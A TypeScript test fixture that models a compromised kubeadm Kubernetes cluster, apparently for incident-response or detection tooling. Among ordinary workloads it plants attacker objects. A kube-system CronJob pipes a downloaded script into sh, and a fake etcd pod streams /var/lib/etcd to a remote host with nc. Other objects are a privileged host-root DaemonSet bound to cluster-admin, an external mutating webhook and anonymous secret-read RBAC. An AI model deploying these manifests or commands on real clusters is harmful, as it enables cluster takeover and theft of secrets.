/**
 * A compromised kubeadm cluster, as kubectl would show it after the incident: the normal system
 * objects (k8s-kubeadm-cluster.ts) plus what the attacker and the workloads added. Scenario
 * (incident window 2026-02-03T00:00Z .. 2026-02-04T00:00Z):
 *
 * - the `shop/web` Deployment is exposed on a NodePort; its SA token can exec into pods and
 *   create pods in `shop` (RoleBinding to a wildcard ClusterRole);
 * - from it the attacker created a privileged, hostPID/hostNetwork `node-agent` DaemonSet in
 *   `monitoring` mounting the host's `/`, and bound its SA to cluster-admin;
 * - a never-yet-run `log-rotate` CronJob in kube-system downloads and runs a script;
 * - a `kube-proxy` DaemonSet look-alike runs in `default`; a fake `etcd-worker-1` bare pod
 *   (named like a static pod, but no node owns it) in kube-system mounts /var/lib/etcd;
 * - a `docker-builder` pod in `ci` mounts the Docker socket with SYS_ADMIN;
 * - `monitoring-reader` (aggregated ClusterRole) reaches every SA of `monitoring` through the
 *   group `system:serviceaccounts:monitoring`, and only through aggregation grants secrets;
 * - a mutating webhook pointing outside the cluster, a node that joined during the incident
 *   with an older kubelet and another OS, and Group `system:unauthenticated` (anonymous
 *   requests) bound to a role that reads secrets.
 */
import {
  clusterRole,
  clusterRoleBinding,
  cronJob,
  daemonSet,
  DAEMONSET_TOLERATIONS,
  deployment,
  hostPathVolume,
  kyvernoClusterPolicy,
  namespace,
  networkPolicy,
  node,
  pod,
  role,
  roleBinding,
  service,
  serviceAccount,
  suffix,
  templateHash,
  uid,
  webhookConfiguration,
  type Obj,
} from './k8s-kubectl.js';
import { kubeadmCluster, type ClusterObjects } from './k8s-kubeadm-cluster.js';

export const CLUSTER_CREATED = '2026-01-10T08:00:00Z';
export const INCIDENT = { since: '2026-02-03T00:00:00Z', until: '2026-02-04T00:00:00Z' };
export const CONTROL_PLANE = { name: 'cp-1', ip: '10.0.0.10' };
export const WORKERS = [
  { name: 'worker-1', ip: '10.0.0.11', created: '2026-01-10T08:20:00Z' },
  { name: 'worker-2', ip: '10.0.0.12', created: '2026-01-10T08:21:00Z' },
];

/**
 * k8s/secrets-metadata.tsv as collect.sh's jsonpath template prints it (no values): kubeadm's
 * bootstrap token, the shop's own Secrets, and a long-lived token Secret the attacker created
 * for the cluster-admin service account (tokens are no longer auto-created since 1.24).
 */
export function secretsMetadataTsv(): string {
  const rows = [
    ['kube-system', 'bootstrap-token-abcdef', 'bootstrap.kubernetes.io/token', '2026-01-10T08:00:20Z', '', ''],
    ['monitoring', 'node-agent-token', 'kubernetes.io/service-account-token', '2026-02-03T02:15:30Z', 'node-agent', ''],
    ['shop', 'shop-db', 'Opaque', '2026-01-20T09:00:00Z', '', '{"app":"shop"}'],
    ['shop', 'web-tls', 'kubernetes.io/tls', '2026-01-20T09:00:00Z', '', '{"app":"web"}'],
  ];
  const body = rows.map(([ns, name, type, created, sa, labels]) => [ns, name, type, created, uid(`Secret/${ns}/${name}`), sa, labels].join('\t'));
  return `namespace\tname\ttype\tcreated\tuid\tservice_account\tlabels\n${body.join('\n')}\n`;
}

export function baselineCluster(): ClusterObjects {
  return kubeadmCluster({ created: CLUSTER_CREATED, controlPlane: CONTROL_PLANE, workers: WORKERS });
}

export interface AttackObjects extends ClusterObjects {
  services: Obj[];
  kyvernoPolicies: Obj[];
}

export function attackObjects(): AttackObjects {
  const workerNodes = [...WORKERS, { name: 'worker-3', ip: '10.0.0.23' }];
  const webHash = templateHash('shop/web');

  // ---------------------------------------------------------------- shop: the exposed web app
  const webSpec = {
    serviceAccount: 'web',
    securityContext: { runAsNonRoot: true, runAsUser: 10001, seccompProfile: { type: 'Unconfined' } },
    initContainers: [
      {
        name: 'init-iptables',
        image: 'registry.example.com/shop/proxy-init:1.2.0',
        args: ['--redirect-port', '15001'],
        securityContext: { runAsNonRoot: false, runAsUser: 0, capabilities: { add: ['NET_ADMIN', 'NET_RAW'], drop: ['ALL'] } },
      },
    ],
    containers: [
      {
        name: 'web',
        image: 'registry.example.com/shop/web:2.4.1',
        ports: [{ containerPort: 8080, name: 'http' }],
        securityContext: { allowPrivilegeEscalation: true },
      },
    ],
  };
  const apiSpec = {
    serviceAccount: 'api',
    automount: false,
    securityContext: { runAsNonRoot: true, runAsUser: 10002, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [
      {
        name: 'api',
        image: 'registry.example.com/payments/api@sha256:3f1c0d6b2f4be4c3a0e17f03b5a8d6bcf1e2d1d8fb0b9d3f7c5e1a2b4c6d8e0f',
        ports: [{ containerPort: 9090, name: 'grpc' }],
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, readOnlyRootFilesystem: true },
      },
    ],
  };
  const apiHash = templateHash('payments/api');
  const cartSpec = {
    containers: [{ name: 'cart', image: 'registry.example.com/shop/cart:1.8.0', ports: [{ containerPort: 8081, name: 'http' }] }],
  };
  const cartHash = templateHash('shop/cart');

  // ---------------------------------------------------------------- monitoring: the attacker's DaemonSet
  const agentSpec = {
    serviceAccount: 'node-agent',
    hostPID: true,
    hostNetwork: true,
    tolerations: [{ operator: 'Exists' }],
    containers: [
      {
        name: 'agent',
        image: 'docker.io/library/alpine:3.19',
        command: ['/bin/sh', '-c', 'chroot /host /bin/sh -c "sleep infinity"'],
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'host-root', mountPath: '/host' }],
      },
    ],
    volumes: [hostPathVolume('host-root', '/')],
  };
  const agentCreated = '2026-02-03T02:14:05Z';
  const promHash = templateHash('monitoring/prometheus');
  const promSpec = {
    serviceAccount: 'prom-agent',
    securityContext: { runAsNonRoot: true, runAsUser: 65534, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [
      {
        name: 'prometheus',
        image: 'quay.io/prometheus/prometheus:v2.51.2',
        args: ['--config.file=/etc/prometheus/prometheus.yml'],
        ports: [{ containerPort: 9090, name: 'web' }],
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, readOnlyRootFilesystem: true },
      },
    ],
  };

  // ---------------------------------------------------------------- default: kube-proxy look-alike
  const fakeProxySpec = {
    serviceAccount: 'default',
    hostNetwork: true,
    containers: [
      {
        name: 'kube-proxy',
        image: 'docker.io/kubeproxy/kube-proxy:v1.29.4',
        command: ['/usr/local/bin/kube-proxy', '--config=/var/lib/kube-proxy/config.conf'],
        securityContext: { privileged: true },
      },
    ],
  };
  const fakeProxyCreated = '2026-02-03T02:40:11Z';

  // ---------------------------------------------------------------- kube-system: CronJob never run yet
  const cron = cronJob({
    namespace: 'kube-system',
    name: 'log-rotate',
    created: '2026-02-03T03:02:44Z',
    schedule: '*/30 * * * *',
    serviceAccount: 'default',
    hostPID: true,
    containers: [
      {
        name: 'rotate',
        image: 'docker.io/library/busybox:1.36',
        command: ['/bin/sh', '-c', 'wget -q -O- http://203.0.113.50/rotate.sh | sh'],
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
      },
    ],
    volumes: [hostPathVolume('host', '/')],
    managers: [{ manager: 'curl', operation: 'Update', time: '2026-02-03T03:02:44Z' }],
  });
  const backup = cronJob({
    namespace: 'shop',
    name: 'db-backup',
    created: '2026-01-12T10:00:00Z',
    schedule: '0 2 * * *',
    lastSchedule: '2026-02-04T02:00:00Z',
    serviceAccount: 'backup',
    automount: false,
    securityContext: { runAsNonRoot: true, runAsUser: 999, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [
      {
        name: 'pg-dump',
        image: 'docker.io/library/postgres:16.2',
        command: ['/bin/sh', '-c', 'pg_dump -h db -U shop shop | gzip > /backup/shop-$(date +%F).sql.gz'],
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
        volumeMounts: [{ name: 'backup', mountPath: '/backup' }],
      },
    ],
    volumes: [{ name: 'backup', persistentVolumeClaim: { claimName: 'backup' } }],
  });

  const pods: Obj[] = [
    ...[0, 1].map((i) =>
      pod({
        namespace: 'shop',
        name: `web-${webHash}-${suffix(`web/${i}`)}`,
        generateName: `web-${webHash}-`,
        node: WORKERS[i]!.name,
        hostIP: WORKERS[i]!.ip,
        podIP: `10.244.${i + 1}.21`,
        created: '2026-01-20T09:00:00Z',
        owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `web-${webHash}` },
        labels: { app: 'web', 'pod-template-hash': webHash },
        ...webSpec,
      }),
    ),
    pod({
      namespace: 'payments',
      name: `api-${apiHash}-${suffix('api/0')}`,
      generateName: `api-${apiHash}-`,
      node: 'worker-2',
      hostIP: '10.0.0.12',
      podIP: '10.244.2.30',
      created: '2026-01-20T09:00:00Z',
      owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `api-${apiHash}` },
      labels: { app: 'api', 'pod-template-hash': apiHash },
      ...apiSpec,
    }),
    pod({
      namespace: 'shop',
      name: `cart-${cartHash}-${suffix('cart/0')}`,
      generateName: `cart-${cartHash}-`,
      node: 'worker-1',
      hostIP: '10.0.0.11',
      podIP: '10.244.1.31',
      created: '2026-01-22T15:10:00Z',
      owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `cart-${cartHash}` },
      labels: { app: 'cart', 'pod-template-hash': cartHash },
      ...cartSpec,
    }),
    ...workerNodes.map((n) =>
      pod({
        namespace: 'monitoring',
        name: `node-agent-${suffix(`node-agent/${n.name}`)}`,
        generateName: 'node-agent-',
        node: n.name,
        hostIP: n.ip,
        created: n.name === 'worker-3' ? '2026-02-03T03:10:00Z' : agentCreated,
        owner: { apiVersion: 'apps/v1', kind: 'DaemonSet', name: 'node-agent' },
        labels: { app: 'node-agent', 'controller-revision-hash': '5c9d7f8b6', 'pod-template-generation': '1' },
        ...agentSpec,
        tolerations: [{ operator: 'Exists' }, ...DAEMONSET_TOLERATIONS],
      }),
    ),
    pod({
      namespace: 'monitoring',
      name: `prometheus-${promHash}-${suffix('prometheus/0')}`,
      generateName: `prometheus-${promHash}-`,
      node: 'worker-1',
      hostIP: '10.0.0.11',
      podIP: '10.244.1.40',
      created: '2026-01-15T11:00:00Z',
      owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `prometheus-${promHash}` },
      labels: { app: 'prometheus', 'pod-template-hash': promHash },
      ...promSpec,
      // kubectl debug -it --profile=sysadmin --target=prometheus: an ephemeral container with full privileges
      ephemeralContainers: [
        { name: 'debugger-h7xqp', image: 'docker.io/library/busybox:1.36', securityContext: { privileged: true }, targetContainerName: 'prometheus' },
      ],
    }),
    ...WORKERS.map((n) =>
      pod({
        namespace: 'default',
        name: `kube-proxy-${suffix(`fake-proxy/${n.name}`)}`,
        generateName: 'kube-proxy-',
        node: n.name,
        hostIP: n.ip,
        created: fakeProxyCreated,
        owner: { apiVersion: 'apps/v1', kind: 'DaemonSet', name: 'kube-proxy' },
        labels: { 'k8s-app': 'kube-proxy', 'controller-revision-hash': '6b8c5d9f7', 'pod-template-generation': '1' },
        ...fakeProxySpec,
        tolerations: [{ operator: 'Exists' }, ...DAEMONSET_TOLERATIONS],
      }),
    ),
    pod({
      namespace: 'kube-system',
      name: 'etcd-worker-1',
      node: 'worker-1',
      hostIP: '10.0.0.11',
      created: '2026-02-03T02:55:30Z',
      labels: { component: 'etcd', tier: 'control-plane' },
      hostNetwork: true,
      tolerations: [{ effect: 'NoExecute', operator: 'Exists' }, { effect: 'NoSchedule', operator: 'Exists' }],
      containers: [
        {
          name: 'etcd',
          image: 'docker.io/library/alpine:3.19',
          command: ['/bin/sh', '-c', 'tar czf - /var/lib/etcd | nc 203.0.113.50 4444'],
          volumeMounts: [{ name: 'etcd-data', mountPath: '/var/lib/etcd' }],
        },
      ],
      volumes: [hostPathVolume('etcd-data', '/var/lib/etcd', 'DirectoryOrCreate')],
    }),
    pod({
      namespace: 'ci',
      name: 'docker-builder',
      node: 'worker-2',
      hostIP: '10.0.0.12',
      podIP: '10.244.2.50',
      created: '2026-01-25T14:30:00Z',
      serviceAccount: 'builder',
      containers: [
        {
          name: 'builder',
          image: 'docker.io/library/docker:25.0-cli',
          command: ['sleep', 'infinity'],
          securityContext: { runAsUser: 0, capabilities: { add: ['SYS_ADMIN', 'NET_RAW'] } },
          volumeMounts: [{ name: 'docker-sock', mountPath: '/var/run/docker.sock' }],
        },
      ],
      volumes: [hostPathVolume('docker-sock', '/var/run/docker.sock', 'Socket')],
    }),
  ];

  const daemonsets = [
    daemonSet({ namespace: 'monitoring', name: 'node-agent', created: agentCreated, nodes: workerNodes.length, podLabels: { app: 'node-agent' }, ...agentSpec, managers: [{ manager: 'kubectl-create', operation: 'Update', time: agentCreated }] }),
    daemonSet({ namespace: 'default', name: 'kube-proxy', created: fakeProxyCreated, nodes: WORKERS.length, labels: { 'k8s-app': 'kube-proxy' }, podLabels: { 'k8s-app': 'kube-proxy' }, ...fakeProxySpec, tolerations: [{ operator: 'Exists' }] }),
  ];
  const deployments = [
    deployment({ namespace: 'shop', name: 'web', created: '2026-01-20T09:00:00Z', replicas: 2, ...webSpec }),
    deployment({ namespace: 'payments', name: 'api', created: '2026-01-20T09:00:00Z', replicas: 1, ...apiSpec }),
    deployment({ namespace: 'shop', name: 'cart', created: '2026-01-22T15:10:00Z', replicas: 1, ...cartSpec }),
    deployment({ namespace: 'monitoring', name: 'prometheus', created: '2026-01-15T11:00:00Z', replicas: 1, ...promSpec }),
  ];

  // ---------------------------------------------------------------- RBAC
  const sa = (ns: string, name: string) => ({ kind: 'ServiceAccount' as const, name, namespace: ns });
  const serviceaccounts = [
    serviceAccount('shop', 'default', '2026-01-20T08:59:00Z'),
    serviceAccount('shop', 'web', '2026-01-20T09:00:00Z'),
    serviceAccount('payments', 'default', '2026-01-20T08:59:00Z'),
    serviceAccount('payments', 'api', '2026-01-20T09:00:00Z', false),
    serviceAccount('shop', 'backup', '2026-01-12T10:00:00Z', false),
    serviceAccount('monitoring', 'default', '2026-01-15T10:59:00Z'),
    serviceAccount('monitoring', 'prom-agent', '2026-01-15T11:00:00Z'),
    serviceAccount('monitoring', 'node-agent', agentCreated),
    serviceAccount('ci', 'default', '2026-01-25T14:00:00Z'),
    serviceAccount('ci', 'builder', '2026-01-25T14:00:00Z'),
  ];
  const clusterroles = [
    clusterRole('pod-manager', [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'pods/log'], verbs: ['*'] }], { created: '2026-01-20T09:00:00Z' }),
    clusterRole('monitoring-reader', null, { created: '2026-01-15T11:00:00Z', aggregationLabels: [{ 'rbac.example.com/aggregate-to-monitoring': 'true' }] }),
    clusterRole('monitoring-basics', [{ apiGroups: [''], resources: ['nodes', 'nodes/metrics', 'services', 'endpoints', 'pods'], verbs: ['get', 'list', 'watch'] }], { created: '2026-01-15T11:00:00Z', labels: { 'rbac.example.com/aggregate-to-monitoring': 'true' } }),
    clusterRole('secret-peek', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }], { created: '2026-02-03T02:20:13Z', labels: { 'rbac.example.com/aggregate-to-monitoring': 'true' } }),
    clusterRole('deployer', [
      { apiGroups: ['apps'], resources: ['deployments'], verbs: ['create', 'get', 'list', 'patch', 'update'] },
      { apiGroups: [''], resources: ['users', 'groups'], verbs: ['impersonate'] },
      { apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind', 'escalate'] },
    ], { created: '2026-01-11T10:00:00Z' }),
    clusterRole('secret-reader', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list', 'watch'] }], { created: '2026-02-03T02:31:00Z' }),
  ];
  const clusterrolebindings = [
    clusterRoleBinding('node-agent-admin', 'cluster-admin', [sa('monitoring', 'node-agent')], { created: '2026-02-03T02:13:40Z', managers: [{ manager: 'kubectl-create', operation: 'Update' }] }),
    clusterRoleBinding('monitoring-readers', 'monitoring-reader', [{ kind: 'Group', name: 'system:serviceaccounts:monitoring' }], { created: '2026-01-15T11:00:00Z' }),
    clusterRoleBinding('jenkins-deployer', 'deployer', [{ kind: 'User', name: 'jenkins' }], { created: '2026-01-11T10:00:00Z' }),
    clusterRoleBinding('debug-all', 'secret-reader', [{ kind: 'Group', name: 'system:unauthenticated' }], { created: '2026-02-03T02:31:05Z' }),
  ];
  const roles = [role('shop', 'web-config', [{ apiGroups: [''], resourceNames: ['web-config'], resources: ['configmaps'], verbs: ['get'] }], { created: '2026-01-20T09:00:00Z' })];
  const rolebindings = [
    roleBinding('shop', 'web-pods', { kind: 'ClusterRole', name: 'pod-manager' }, [sa('shop', 'web')], { created: '2026-01-20T09:00:00Z' }),
    roleBinding('shop', 'web-config', { kind: 'Role', name: 'web-config' }, [sa('shop', 'web')], { created: '2026-01-20T09:00:00Z' }),
    roleBinding('kube-system', 'support-edit', { kind: 'ClusterRole', name: 'edit' }, [{ kind: 'User', name: 'dev@example.com' }], { created: '2026-01-28T16:45:00Z' }),
  ];

  // ---------------------------------------------------------------- cluster objects
  const namespaces = [
    namespace('shop', '2026-01-20T08:59:00Z', { 'pod-security.kubernetes.io/audit': 'restricted', 'pod-security.kubernetes.io/warn': 'restricted' }),
    namespace('payments', '2026-01-20T08:59:00Z', { 'pod-security.kubernetes.io/enforce': 'restricted', 'pod-security.kubernetes.io/enforce-version': 'latest' }),
    namespace('monitoring', '2026-01-15T10:59:00Z'),
    namespace('ci', '2026-01-25T14:00:00Z', { 'pod-security.kubernetes.io/enforce': 'privileged' }),
  ];
  const networkpolicies = [
    networkPolicy('shop', 'default-deny-ingress', '2026-01-20T09:00:00Z', { podSelector: {}, policyTypes: ['Ingress'] }),
    networkPolicy('payments', 'default-deny', '2026-01-20T09:00:00Z', { podSelector: {}, policyTypes: ['Ingress', 'Egress'] }),
    networkPolicy('shop', 'allow-web', '2026-01-20T09:00:00Z', {
      ingress: [{ ports: [{ port: 8080, protocol: 'TCP' }] }],
      podSelector: { matchLabels: { app: 'web' } },
      policyTypes: ['Ingress'],
    }),
    networkPolicy('monitoring', 'prometheus', '2026-01-15T11:00:00Z', {
      ingress: [{ from: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'monitoring' } } }] }],
      podSelector: { matchExpressions: [{ key: 'app', operator: 'In', values: ['prometheus'] }] },
      policyTypes: ['Ingress'],
    }),
  ];
  const nodes = [node({ name: 'worker-3', created: '2026-02-03T03:05:12Z', ip: '10.0.0.23', podCIDR: '10.244.3.0/24', kubelet: 'v1.27.3', osImage: 'Alpine Linux v3.19', kernel: '6.6.14-0-lts', runtime: 'containerd://1.7.11' })];
  const mutatingwebhookconfigurations = [
    webhookConfiguration('MutatingWebhookConfiguration', 'pod-defaults', '2026-02-03T03:20:00Z', [
      { name: 'pod-defaults.example.io', url: 'https://198.51.100.7:8443/mutate', failurePolicy: 'Ignore', resources: ['pods'], operations: ['CREATE'] },
    ], [{ manager: 'python-requests', operation: 'Update' }]),
  ];
  const validatingwebhookconfigurations = [
    webhookConfiguration('ValidatingWebhookConfiguration', 'shop-validator', '2026-01-20T09:00:00Z', [
      { name: 'validate.shop.example.com', service: { namespace: 'shop', name: 'validator', path: '/validate' }, failurePolicy: 'Fail', resources: ['configmaps'], operations: ['CREATE', 'UPDATE'] },
    ]),
  ];
  const services = [
    service('shop', 'web', '2026-01-20T09:00:00Z', { type: 'NodePort', selector: { app: 'web' }, port: 80, targetPort: 8080, nodePort: 30080, clusterIP: '10.96.44.12' }),
    service('payments', 'api', '2026-01-20T09:00:00Z', { type: 'ClusterIP', selector: { app: 'api' }, port: 9090, targetPort: 9090, clusterIP: '10.96.44.13' }),
  ];
  const kyvernoPolicies = [kyvernoClusterPolicy('disallow-privileged-containers', '2026-01-12T09:00:00Z', 'Audit')];

  return {
    nodes,
    namespaces,
    pods,
    deployments,
    daemonsets,
    statefulsets: [],
    jobs: [],
    cronjobs: [cron, backup],
    serviceaccounts,
    roles,
    rolebindings,
    clusterroles,
    clusterrolebindings,
    networkpolicies,
    validatingwebhookconfigurations,
    mutatingwebhookconfigurations,
    events: [],
    services,
    kyvernoPolicies,
  };
}
